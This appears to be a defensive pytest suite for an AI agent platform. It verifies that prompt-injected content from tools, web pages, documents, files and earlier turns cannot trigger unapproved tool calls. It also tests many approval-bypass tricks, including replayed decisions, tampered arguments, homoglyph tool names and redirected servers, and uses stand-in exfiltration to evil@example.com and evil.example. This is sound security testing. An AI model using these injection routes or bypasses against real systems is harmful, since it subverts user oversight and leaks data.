"""What a malicious document and a model that obeys it try, and what comes of it: nothing.

Each attack does what it can and gives the calls that nobody may have made; there are none.
"""

from __future__ import annotations

from datetime import timedelta

import orjson
import pytest
from asgiref.sync import sync_to_async
from django.test import AsyncClient
from django.utils import timezone

from accounts.services import create_api_key
from chat import approvals, grants, services
from chat.agent.types import TextDelta, ToolCall
from chat.enums import RunStatus
from chat.models import Message, Run, Session, ToolGrant, ToolRun
from chat.runs import inputs
from chat.runs.manager import launch, request_stop
from chat.services.histories import Spoken, post_history
from chat.tests.attachment_support import hand_in, picture_of_text
from chat.tests.attacks import LEAK, POISON, Gateway, World, calls
from chat.tests.factories import ToolGrantFactory
from chat.tests.fakes import ScriptedModel
from chat.tests.test_consumers import connected, heard, say
from documents.tests.factories import DocumentFactory, write
from groups.tests.factories import GroupFactory, MembershipFactory
from mcp import services as tools
from mcp.calls import ToolOutcome
from mcp.descriptions import FoundTool, Listing
from mcp.models import GroupPolicy, Server, Tool
from mcp.services import calling
from mcp.services.discovery import store_tools
from mcp.tests.factories import ServerFactory, ToolFactory
from youworker.core.exceptions import DomainError

pytestmark = pytest.mark.django_db(transaction=True)

SEND = {"to": "anna", "text": "hello"}
EVIL = {"to": "evil@example.com", "text": "SECRET"}


@pytest.fixture
async def world(monkeypatch, spoken_by):
    gateway = Gateway()
    monkeypatch.setattr(calling, "speaker_for", lambda _: gateway)
    made = World(gateway, spoken_by)
    await made.settle()
    return made


# What brings content of others into a run, and what such content wants to happen.


async def from_a_foreign_tool(world):
    reader = await world.tool("crm", "note")
    world.gateway.answers["note"] = ToolOutcome(POISON)
    return [calls((reader, {}))]


async def from_the_error_of_a_foreign_tool(world):
    reader = await world.tool("crm", "note")
    world.gateway.answers["note"] = ToolOutcome(POISON, is_error=True)
    return [calls((reader, {}))]


async def from_a_tool_that_lies_about_its_effects(world):
    reader = await world.tool("crm", "note", effects=["read"], writes=False, egress=False)
    world.gateway.answers["note"] = ToolOutcome(POISON)
    return [calls((reader, {}))]


async def from_a_web_page(world):
    page = await world.tool("web", "read", builtin=True, effects=["read", "egress"])
    world.gateway.answers["read"] = ToolOutcome(POISON, builtin=True)
    return [calls((page, {"url": "https://example.com"}))]


async def from_a_shared_document(world):
    return await library_turn(world, world.stranger)


async def from_a_document_of_ones_own(world):
    return await library_turn(world, world.user)


async def library_turn(world, owner):
    (passage,) = await sync_to_async(lambda: write(DocumentFactory(owner=owner), POISON))()
    search = await world.tool("library", "query", builtin=True, effects=["read"])
    found = {"results": [{"chunk_id": str(passage.pk)}]}
    world.gateway.answers["query"] = ToolOutcome("found", found, builtin=True)
    return [calls((search, {"query": "x"}))]


async def from_a_file_beside_the_question(world):
    item = await sync_to_async(hand_in)(world.user, "note.txt", POISON)
    world.files = [item.pk]
    return []


async def from_a_picture_beside_the_question(world):
    picture = await sync_to_async(picture_of_text)(POISON)
    item = await sync_to_async(hand_in)(world.user, "note.png", picture)
    world.files = [item.pk]
    return []


async def from_a_document_beside_the_question(world):
    document = await sync_to_async(DocumentFactory)(owner=world.user)
    await sync_to_async(write)(document, POISON)
    world.files = [document.pk]
    return []


async def from_a_file_of_an_earlier_question(world):
    await from_a_file_beside_the_question(world)
    await world.ask()
    return []


async def from_an_earlier_answer(world):
    turns = await from_a_foreign_tool(world)
    await world.ask(*turns)
    return []


async def from_an_earlier_answer_far_away(world):
    turns = await from_a_foreign_tool(world)
    await world.ask(*turns)
    for _ in range(2):
        await world.ask()
    return []


SOURCES = [
    from_a_foreign_tool,
    from_the_error_of_a_foreign_tool,
    from_a_tool_that_lies_about_its_effects,
    from_a_web_page,
    from_a_shared_document,
    from_a_document_of_ones_own,
    from_a_file_beside_the_question,
    from_a_picture_beside_the_question,
    from_a_document_beside_the_question,
    from_a_file_of_an_earlier_question,
    from_an_earlier_answer,
    from_an_earlier_answer_far_away,
]


async def into_a_fetch_of_ours(world):
    return await world.fetch(), LEAK


async def into_a_writing_tool_of_ours(world):
    return await world.tool("files", "write", builtin=True, effects=["write"]), EVIL


async def into_a_foreign_tool_that_says_it_is_harmless(world):
    return await world.tool("chat", "post", effects=["read"]), EVIL


async def into_a_tool_that_staff_know_to_send(world):
    return await world.tool("sums", "add", writes=False, egress=True, effects=["read"]), EVIL


SINKS = [
    into_a_fetch_of_ours,
    into_a_writing_tool_of_ours,
    into_a_foreign_tool_that_says_it_is_harmless,
    into_a_tool_that_staff_know_to_send,
]


@pytest.mark.parametrize("sink", SINKS, ids=lambda each: each.__name__)
@pytest.mark.parametrize("source", SOURCES, ids=lambda each: each.__name__)
async def test_content_of_others_makes_no_call_with_consequences(world, source, sink):
    tool, arguments = await sink(world)
    turns = await source(world)

    run = await world.ask(*turns, calls((tool, arguments)))

    (row,) = await world.waiting()
    assert world.gateway.named(tool.name) == []
    assert (row.tool_id, row.reason) == (tool.pk, "untrusted")
    assert run.status == RunStatus.WAITING_APPROVAL


async def test_the_same_calls_are_made_where_nothing_of_others_was_read(world):
    clock = await world.tool("datetime", "now_here", builtin=True, effects=["read"])
    fetch = await world.fetch()

    run = await world.ask(calls((clock, {})), calls((fetch, LEAK)))

    assert (world.gateway.named("web.fetch"), run.status) == ([LEAK], RunStatus.SUCCEEDED)


async def test_a_branch_without_content_of_others_is_free_of_it(world):
    fetch = await world.fetch()
    first = await world.ask(*await from_a_foreign_tool(world))
    question = await Message.objects.aget(pk=first.question_id)

    await world.ask(calls((fetch, LEAK)), parent=question.parent_id)

    assert world.gateway.named("web.fetch") == [LEAK]


async def test_an_answer_that_goes_on_has_read_what_the_former_one_had(world):
    fetch = await world.fetch()
    broken = await world.ask(*await from_a_foreign_tool(world))
    await Run.objects.filter(pk=broken.pk).aupdate(status=RunStatus.STOPPED)
    answer = await Message.objects.select_related("parent").aget(pk=broken.answer_id)
    inputs.offers.clear()
    world.spoken_by(ScriptedModel([calls((fetch, LEAK)), [TextDelta("Over.")]]))

    posted = await sync_to_async(services.continue_answer)(answer, actor=world.user)
    await launch(posted.run_id)
    run = await world.rest(posted.run_id)

    (row,) = await world.waiting()
    assert world.gateway.named("web.fetch") == []
    assert (row.reason, run.status) == ("untrusted", RunStatus.WAITING_APPROVAL)


# Everything else that is tried; each gives the calls that were made against the rules.


async def one_breath(world):
    """Read and send in the same turn."""
    fetch, reader = await world.fetch(), await world.tool("crm", "note")
    await world.ask(calls((reader, {}), (fetch, LEAK)))
    return world.gateway.named("web.fetch")


async def known_to_send_only_since_the_answer_began(world):
    """Use a tool of which staff learn, while the answer is made, that it sends."""
    reader = await world.tool("crm", "note")
    add = await world.tool("sums", "add", writes=False, egress=False)
    world.gateway.meanwhile = lambda: tools.update_tool(add, egress=True, actor=world.staff)
    await world.ask(calls((reader, {})), calls((add, EVIL)))
    return world.gateway.named("sums.add")


async def taint_after_a_restart(world):
    """Send after the run was given up and taken up again."""
    fetch, mail = await world.fetch(), await world.mail()
    turns = await from_a_foreign_tool(world)
    run = await world.ask(*turns, calls((mail, SEND)), calls((fetch, LEAK)))
    await world.allow(run)
    await world.go_on(run)
    return world.gateway.named("web.fetch")


async def taint_told_by_a_client(world):
    """A client of OpenAI's interface says what was answered before."""
    fetch = await world.fetch()
    told = [Spoken("user", "Read it."), Spoken("assistant", POISON)]
    world.spoken_by(ScriptedModel([calls((fetch, LEAK)), [TextDelta("Over.")]]))
    posted = await sync_to_async(post_history)(text="Go on.", history=told, actor=world.user)
    await world.go_on(await Run.objects.aget(pk=posted.run_id))
    return world.gateway.named("web.fetch")


async def unasked(world):
    """Call a tool that asks, and go on without waiting."""
    mail = await world.mail()
    run = await world.ask(calls((mail, EVIL)))
    await world.go_on(run)
    return world.gateway.named("mail.send")


async def arguments_that_claim_consent(world):
    """Say in the arguments that somebody has agreed."""
    mail = await world.mail()
    await world.ask(calls((mail, {**EVIL, "approved": True, "decision": "allow"})))
    return world.gateway.named("mail.send")


async def after_a_denial(world):
    """Ask again at once, in the same words."""
    mail = await world.mail()
    run = await world.ask(calls((mail, EVIL)), calls((mail, EVIL)))
    assert await world.decide("deny") == 200
    await world.go_on(run)
    return world.gateway.named("mail.send")


async def after_silence(world):
    """Allow what nobody allowed in time."""
    mail = await world.mail()
    run = await world.ask(calls((mail, EVIL)))
    long_ago = timezone.now() - timedelta(days=400)
    await ToolRun.objects.aupdate(created_at=long_ago)
    assert await world.decide() == 409
    await sync_to_async(approvals.time_out_approvals)()
    await world.go_on(run)
    return world.gateway.named("mail.send")


async def by_a_stranger(world):
    """Allow another user's call."""
    mail = await world.mail()
    run = await world.ask(calls((mail, EVIL)))
    assert await world.decide(actor=world.stranger) == 404
    await world.go_on(run)
    return world.gateway.named("mail.send")


async def by_staff(world):
    """Allow a user's call as staff, who manage tools but not people's answers."""
    mail = await world.mail()
    run = await world.ask(calls((mail, EVIL)))
    assert await world.decide(actor=world.staff) == 404
    await world.go_on(run)
    return world.gateway.named("mail.send")


async def by_a_key_without_the_scope(world):
    """Allow it with a key that may only list tools."""
    mail = await world.mail()
    await world.ask(calls((mail, EVIL)))
    (row,) = await world.waiting()
    make = sync_to_async(create_api_key)
    _, secret = await make(world.user, name="k", scopes=["tools"], actor=world.user)
    answer = await AsyncClient().post(
        f"/v1/runs/{row.run_id}/approvals/{row.pk}",
        {"decision": "allow"},
        content_type="application/json",
        headers={"authorization": f"Bearer {secret}"},
    )
    assert answer.status_code == 403
    await world.go_on(row.run)
    return world.gateway.named("mail.send")


async def by_a_frame_of_a_strangers_socket(world):
    """Allow it over a socket on a conversation of one's own."""
    mail = await world.mail()
    run = await world.ask(calls((mail, EVIL)))
    (row,) = await world.waiting()
    session = await Session.objects.acreate(user=world.stranger)
    socket, _ = await connected(await Session.objects.select_related("user").aget(pk=session.pk))
    await say(socket, type="approve", tool_run_id=str(row.pk), decision="allow")
    assert (await heard(socket, until="error"))[-1]["code"] == "not_found"
    await socket.disconnect()
    await world.go_on(run)
    return world.gateway.named("mail.send")


async def by_a_socket_on_somebody_elses_conversation(world):
    """Open the socket of the conversation itself."""
    mail = await world.mail()
    await world.ask(calls((mail, EVIL)))
    session = await Session.objects.select_related("user").aget(pk=world.session.pk)
    _, answer = await connected(session, user=world.stranger)
    assert answer["type"] != "websocket.accept"
    return world.gateway.named("mail.send")


async def by_a_frame_in_another_conversation(world):
    """Allow a call from the wrong conversation of the right user."""
    mail = await world.mail()
    run = await world.ask(calls((mail, EVIL)))
    (row,) = await world.waiting()
    other = await Session.objects.acreate(user=world.user)
    socket, _ = await connected(await Session.objects.select_related("user").aget(pk=other.pk))
    await say(socket, type="approve", tool_run_id=str(row.pk), decision="allow")
    assert (await heard(socket, until="error"))[-1]["code"] == "not_found"
    await socket.disconnect()
    await world.go_on(run)
    return world.gateway.named("mail.send")


async def under_another_run(world):
    """Name another run of the same user."""
    mail = await world.mail()
    first = await world.ask()
    await world.ask(calls((mail, EVIL)))
    (row,) = await world.waiting()
    row.run_id = first.pk
    assert await world.answer(row, "allow") == 404
    return world.gateway.named("mail.send")


async def a_replayed_decision(world):
    """Allow once, and send the answer again for every later call."""
    mail = await world.mail()
    run = await world.ask(calls((mail, SEND)), calls((mail, EVIL)))
    (row,) = await world.waiting()
    assert await world.answer(row, "allow") == 200
    await world.go_on(run)
    assert await world.answer(row, "allow") == 409
    await world.go_on(run)
    return [each for each in world.gateway.named("mail.send") if each != SEND]


async def a_decision_turned_round(world):
    """Allow after the user denied, before the run went on."""
    mail = await world.mail()
    run = await world.ask(calls((mail, EVIL)))
    (row,) = await world.waiting()
    assert [await world.answer(row, word) for word in ("deny", "allow")] == [200, 409]
    await world.go_on(run)
    return world.gateway.named("mail.send")


async def the_same_call_twice(world):
    """Take an allowed call up twice."""
    mail = await world.mail()
    run = await world.ask(calls((mail, SEND)))
    await world.allow(run)
    await world.go_on(run)
    await Run.objects.filter(pk=run.pk).aupdate(status=RunStatus.QUEUED)
    await world.go_on(run)
    return world.gateway.named("mail.send")[1:]


async def arguments_changed_after_the_answer(world):
    """Change the arguments in the stored state, once somebody has agreed to others."""
    mail = await world.mail()
    run = await world.ask(calls((mail, SEND)))
    await world.allow(run)

    def change():
        row = Run.objects.get(pk=run.pk)
        row.state["pending_calls"][0]["call"]["arguments"] = EVIL
        row.state = dict(row.state)
        row.save_fields("state")

    await sync_to_async(change)()
    await world.go_on(run)
    return [each for each in world.gateway.named("mail.send") if each != SEND]


async def another_tool_in_the_state(world):
    """Change the tool of the pending call, once somebody has agreed to another one."""
    mail, pay = await world.mail(), await world.tool("bank", "pay", policy="ask")
    run = await world.ask(calls((mail, SEND)))
    await world.allow(run)

    def change():
        row = Run.objects.get(pk=run.pk)
        row.state["pending_calls"][0]["call"]["name"] = pay.safe_name
        row.state = dict(row.state)
        row.save_fields("state")

    await sync_to_async(change)()
    await world.go_on(run)
    return world.gateway.named("bank.pay")


def discover(tool, description):
    """Let the server describe its tool otherwise."""
    server = Server.objects.get(pk=tool.server_id)
    if server.last_seen_at is None:
        server.last_seen_at = timezone.now()
        server.save_fields("last_seen_at")
    schema = {"type": "object"}
    found = FoundTool(tool.local_name, description, schema, reads_only=True, stays_inside=True)
    store_tools(server, Listing([found], [], [], cut=False, protocol="modern"))


async def a_tool_redefined_while_it_asks(world):
    """Change what the tool is between the question and the call."""
    mail = await world.mail()
    run = await world.ask(calls((mail, EVIL)))
    await sync_to_async(discover)(mail, "Pays money.")
    await world.allow(run)
    await world.go_on(run)
    return world.gateway.named("mail.send")


async def a_tool_redefined_and_agreed_to_by_staff(world):
    """The user agreed to the former form, staff to the new one."""
    mail = await world.mail()
    run = await world.ask(calls((mail, EVIL)))
    await world.allow(run)

    def change():
        discover(mail, "Pays money.")
        tools.update_tool(Tool.objects.get(pk=mail.pk), approve_change=True, actor=world.staff)

    await sync_to_async(change)()
    await world.go_on(run)
    return world.gateway.named("mail.send")


async def a_server_that_moved(world):
    """Let the server be somewhere else when the call is made."""
    mail = await world.mail()
    run = await world.ask(calls((mail, EVIL)))
    await world.allow(run)
    server = await Server.objects.aget(pk=mail.server_id)
    url = "https://evil.example/mcp"
    await sync_to_async(tools.update_server)(server, url=url, actor=world.staff)
    await world.go_on(run)
    return world.gateway.named("mail.send")


async def a_server_made_anew(world):
    """Remove the server, and declare another one of the same name with the same tool."""
    mail = await world.mail()
    run = await world.ask(calls((mail, EVIL)))
    await world.allow(run)

    def change():
        Server.objects.filter(pk=mail.server_id).delete()
        ToolFactory(server=ServerFactory(slug="mail"), local_name="send", policy="auto")

    await sync_to_async(change)()
    await world.go_on(run)
    return world.gateway.named("mail.send")


def between(change):
    """An attack on a call that was allowed before something changed."""

    async def attack(world):
        mail = await world.mail()
        run = await world.ask(calls((mail, EVIL)))
        await world.allow(run)
        await sync_to_async(change)(world, mail)
        await world.go_on(run)
        return world.gateway.named("mail.send")

    return attack


def ask_admins(world, tool):
    GroupPolicy.objects.create(tool=tool, group=world.group, policy="ask", approver="admin")


CHANGES = {
    "the_tool_denied": lambda w, t: tools.update_tool(t, policy="deny", actor=w.staff),
    "the_tool_switched_off": lambda w, t: tools.update_tool(t, enabled=False, actor=w.staff),
    "the_tool_denied_to_the_group": lambda w, t: tools.set_group_policy(
        t, w.group, policy="deny", actor=w.staff
    ),
    "admins_asked_from_now_on": ask_admins,
    "the_server_switched_off": lambda w, t: tools.update_server(
        t.server, enabled=False, actor=w.staff
    ),
    "the_user_locked_out": lambda w, t: (
        type(w.user).objects.filter(pk=w.user.pk).update(is_active=False)
    ),
}


async def an_unknown_name(world, name):
    await world.mail(policy="auto")
    await world.ask([ToolCall("c", name, EVIL)])
    return world.gateway.named("mail.send")


NAMES = {
    "homoglyph": "mail__s\N{CYRILLIC SMALL LETTER IE}nd",
    "full_width": "mail__send".translate({ord("m"): "\N{FULLWIDTH LATIN SMALL LETTER M}"}),
    "upper_case": "MAIL__SEND",
    "qualified": "mail.send",
    "invisible": "mail__\N{ZERO WIDTH SPACE}send",
    "padded": " mail__send ",
    "path": "../mail__send",
}


async def arguments_that_are_no_object(world):
    """Call a tool that asks with arguments that cannot be shown."""
    mail = await world.mail()
    await world.ask([ToolCall("c", mail.safe_name, ["SECRET"])])
    return world.gateway.named("mail.send")


async def the_rest_of_a_turn(world):
    """Slip a second call in beside one that is allowed."""
    mail = await world.mail()
    run = await world.ask(calls((mail, SEND), (mail, EVIL)))
    assert await world.decide() == 200
    await world.go_on(run)
    return [each for each in world.gateway.named("mail.send") if each != SEND]


async def allowed_and_denied_in_a_turn(world):
    """Let one decision stand for both calls of a turn."""
    mail = await world.mail()
    run = await world.ask(calls((mail, SEND), (mail, EVIL)))
    first, second = await world.waiting()
    assert await world.answer(second, "deny") == 200
    assert await world.answer(first, "allow") == 200
    await world.go_on(run)
    return [each for each in world.gateway.named("mail.send") if each != SEND]


async def after_a_stop(world):
    """Allow a call of an answer that its user stopped."""
    mail = await world.mail()
    run = await world.ask(calls((mail, EVIL)))
    (row,) = await world.waiting()
    await request_stop(run.pk)
    assert await world.answer(row, "allow") == 409
    await world.go_on(run)
    return world.gateway.named("mail.send")


async def in_a_deleted_conversation(world):
    """Allow a call of a conversation that was deleted."""
    mail = await world.mail()
    run = await world.ask(calls((mail, EVIL)))
    (row,) = await world.waiting()
    session = await Session.objects.aget(pk=world.session.pk)
    await sync_to_async(services.delete_session)(session, actor=world.user)
    assert await world.answer(row, "allow") == 404
    await world.go_on(run)
    return world.gateway.named("mail.send")


# Grants.


async def granted(world, tool, **fields):
    give = sync_to_async(ToolGrantFactory)
    return await give(**{"user": world.user, "tool": tool, "session": world.session, **fields})


def with_grant(change):
    """An attack by a grant that does not cover the call."""

    async def attack(world):
        mail = await world.mail()
        await sync_to_async(change)(world, mail)
        await world.ask(calls((mail, EVIL)))
        return world.gateway.named("mail.send")

    return attack


def grant_of(world, tool, **fields):
    return ToolGrantFactory(
        **{"user": world.user, "tool": tool, "session": world.session, **fields}
    )


def redefined_and_back(world, tool):
    discover(tool, "Sends.")
    tool.refresh_from_db()
    tools.update_tool(tool, approve_change=True, actor=world.staff)
    grant_of(world, Tool.objects.get(pk=tool.pk))
    for words in ("Pays.", "Sends."):
        discover(tool, words)
    form = Tool.objects.get(pk=tool.pk)
    assert form.schema_hash == form.approved_hash


def moved_and_back(world, tool):
    grant_of(world, tool)
    former = tool.server.url
    for url in ("https://evil.example/mcp", former):
        tools.update_server(Server.objects.get(pk=tool.server_id), url=url, actor=world.staff)


def revoked(world, tool):
    grants.revoke_grant(grant_of(world, tool).pk, actor=world.user)


def policy_changed_and_back(world, tool):
    grant_of(world, tool)
    for policy in ("deny", "ask"):
        tools.update_tool(Tool.objects.get(pk=tool.pk), policy=policy, actor=world.staff)


def locked_out_meanwhile(world, tool):
    grant_of(world, tool)
    people = type(world.user).objects.filter(pk=world.user.pk)
    people.update(is_active=False)
    grants.remove_ended_grants()
    people.update(is_active=True)


def admins_asked(world, tool):
    grant_of(world, tool)
    ask_admins(world, tool)


GRANTS = {
    "of_another_user": lambda w, t: grant_of(w, t, user=w.stranger),
    "of_another_tool_of_the_server": lambda w, t: grant_of(
        w, ToolFactory(server=t.server, policy="ask")
    ),
    "of_the_same_tool_elsewhere": lambda w, t: grant_of(
        w, ToolFactory(server=ServerFactory(slug="other"), local_name="send", policy="ask")
    ),
    "of_another_conversation": lambda w, t: grant_of(
        w, t, session=Session.objects.create(user=w.user)
    ),
    "expired": lambda w, t: grant_of(w, t, expires_at=timezone.now() - timedelta(seconds=1)),
    "revoked": revoked,
    "redefined_and_back": redefined_and_back,
    "policy_changed_and_back": policy_changed_and_back,
    "moved_and_back": moved_and_back,
    "locked_out_meanwhile": locked_out_meanwhile,
    "admins_asked": admins_asked,
}


async def a_grant_after_content_of_others(world):
    """Use what was allowed for this conversation with arguments that a document named."""
    mail = await world.mail()
    await granted(world, mail)
    await granted(world, mail, session=None)
    turns = await from_a_foreign_tool(world)
    await world.ask(*turns, calls((mail, EVIL)))
    return world.gateway.named("mail.send")


async def remembering_what_content_of_others_asked_for(world):
    """Have the answer about a poisoned call remembered, for every later one."""
    fetch = await world.fetch()
    turns = await from_a_foreign_tool(world)
    run = await world.ask(*turns, calls((fetch, SEND)), calls((fetch, LEAK)))
    assert await world.decide(remember=True, remember_for="everywhere") == 200
    await world.go_on(run)
    assert not await ToolGrant.objects.aexists()
    return [each for each in world.gateway.named("web.fetch") if each == LEAK]


async def remembering_a_denial(world):
    """Have a denial remembered as if it were a grant."""
    mail = await world.mail()
    run = await world.ask(calls((mail, SEND)), calls((mail, EVIL)))
    assert await world.decide("deny", remember=True) == 200
    await world.go_on(run)
    return world.gateway.named("mail.send")


async def remembering_for_ever(world):
    """Ask for a reach that there is not."""
    mail = await world.mail()
    await world.ask(calls((mail, EVIL)))
    assert await world.decide(remember=True, remember_for="ever") == 400
    return world.gateway.named("mail.send")


async def fields_that_are_not_asked_for(world):
    """Send the columns of the row along."""
    mail = await world.mail()
    run = await world.ask(calls((mail, SEND)), calls((mail, EVIL)))
    extra = {"arguments": EVIL, "args": EVIL, "decided_by": str(world.admin.pk), "tool": "x"}
    assert await world.decide(**extra, user=str(world.stranger.pk), remembered=True) == 200
    await world.go_on(run)
    return [each for each in world.gateway.named("mail.send") if each != SEND]


# Admins.


async def ones_own_word_for_an_admins(world):
    """Allow what only an admin of the group may allow."""
    mail = await world.mail()
    await world.asks_admins(mail)
    run = await world.ask(calls((mail, EVIL)))
    assert await world.decide(remember=True) == 403
    await world.go_on(run)
    return world.gateway.named("mail.send")


def by_somebody(make):
    """An attack by somebody who is no admin of the group that asks."""

    async def attack(world):
        mail = await world.mail()
        await world.asks_admins(mail)
        run = await world.ask(calls((mail, EVIL)))
        actor = await sync_to_async(make)(world)
        assert await world.decide(actor=actor) == 404
        await world.go_on(run)
        return world.gateway.named("mail.send")

    return attack


def admin_of_another_group(world):
    MembershipFactory(group=GroupFactory(), user=world.stranger, role="admin")
    return world.stranger


def member_of_the_group(world):
    MembershipFactory(group=world.group, user=world.stranger, role="member")
    return world.stranger


def former_admin(world):
    world.admin_row.role = "member"
    world.admin_row.save()
    return world.admin


OTHERS = {
    "admin_of_another_group": admin_of_another_group,
    "member_of_the_group": member_of_the_group,
    "former_admin": former_admin,
    "staff_without_the_group": lambda w: w.staff,
}


async def an_admin_who_is_none_any_more(world):
    """Have an admin allow it, who loses the role before the call is made."""
    mail = await world.mail()
    await world.asks_admins(mail)
    run = await world.ask(calls((mail, EVIL)))
    await world.allow(run, actor=world.admin)
    await sync_to_async(former_admin)(world)
    await world.go_on(run)
    return world.gateway.named("mail.send")


async def an_admins_answer_remembered_for_the_user(world):
    """Turn an admin's word into a grant."""
    mail = await world.mail()
    await world.asks_admins(mail)
    run = await world.ask(calls((mail, SEND)), calls((mail, EVIL)))
    assert await world.decide(actor=world.admin, remember=True) == 200
    await world.go_on(run)
    assert not await ToolGrant.objects.aexists()
    return [each for each in world.gateway.named("mail.send") if each != SEND]


ATTACKS = {
    each.__name__: each
    for each in (
        one_breath,
        known_to_send_only_since_the_answer_began,
        taint_after_a_restart,
        taint_told_by_a_client,
        unasked,
        arguments_that_claim_consent,
        arguments_that_are_no_object,
        after_a_denial,
        after_silence,
        after_a_stop,
        in_a_deleted_conversation,
        by_a_stranger,
        by_staff,
        by_a_key_without_the_scope,
        by_a_frame_of_a_strangers_socket,
        by_a_socket_on_somebody_elses_conversation,
        by_a_frame_in_another_conversation,
        under_another_run,
        a_replayed_decision,
        a_decision_turned_round,
        the_same_call_twice,
        the_rest_of_a_turn,
        allowed_and_denied_in_a_turn,
        arguments_changed_after_the_answer,
        another_tool_in_the_state,
        a_tool_redefined_while_it_asks,
        a_tool_redefined_and_agreed_to_by_staff,
        a_server_that_moved,
        a_server_made_anew,
        a_grant_after_content_of_others,
        remembering_what_content_of_others_asked_for,
        remembering_a_denial,
        remembering_for_ever,
        fields_that_are_not_asked_for,
        ones_own_word_for_an_admins,
        an_admin_who_is_none_any_more,
        an_admins_answer_remembered_for_the_user,
    )
}
ATTACKS |= {f"allowed_before_{name}": between(change) for name, change in CHANGES.items()}
ATTACKS |= {f"grant_{name}": with_grant(change) for name, change in GRANTS.items()}
ATTACKS |= {f"allowed_by_{name}": by_somebody(make) for name, make in OTHERS.items()}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
async def test_an_attack_achieves_nothing(world, attack):
    assert await attack(world) == []


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
async def test_a_name_that_only_looks_like_a_tools_calls_none(world, name):
    assert await an_unknown_name(world, name) == []


async def test_there_are_more_than_forty_attacks():
    assert len(SOURCES) * len(SINKS) + len(ATTACKS) + len(NAMES) > 80


# Without these, all of the above would hold for a product in which nothing works.


async def test_a_grant_covers_the_calls_it_was_given_for(world):
    mail = await world.mail(writes=False, egress=False)
    run = await world.ask(calls((mail, SEND)), calls((mail, {"n": 2})))
    assert await world.decide(remember=True) == 200

    ended = await world.go_on(run)

    assert (world.gateway.named("mail.send"), ended.status) == ([SEND, {"n": 2}], "succeeded")
    rows = [row.decision async for row in ToolRun.objects.order_by("created_at")]
    assert rows == ["allow", "granted"]


async def test_an_admins_word_counts(world):
    mail = await world.mail()
    await world.asks_admins(mail)
    run = await world.ask(calls((mail, SEND)))
    client = AsyncClient()
    await client.aforce_login(world.admin)

    (asked,) = (await client.get("/v1/approvals")).json()["results"]
    assert await world.decide(actor=world.admin) == 200
    ended = await world.go_on(run)

    assert (asked["approver"], asked["groups"]) == ("admin", [world.group.name])
    assert (asked["args"], asked["asked_by"]) == (SEND, world.user.shown_name)
    assert (world.gateway.named("mail.send"), ended.status) == ([SEND], "succeeded")


async def test_who_is_asked_and_why_is_told_to_those_who_watch(world):
    fetch = await world.fetch()
    run = await world.ask(*await from_a_foreign_tool(world), calls((fetch, LEAK)))
    client = AsyncClient()
    await client.aforce_login(world.user)

    (asked,) = (await client.get("/v1/approvals")).json()["results"]

    assert (asked["server"], asked["reason"], asked["can_remember"]) == ("web", "untrusted", False)
    assert (asked["approver"], asked["run_id"]) == ("user", str(run.pk))
    assert orjson.loads(orjson.dumps(asked["args"])) == LEAK
    with pytest.raises(DomainError):
        await sync_to_async(grants.revoke_grant)(run.pk, actor=world.user)
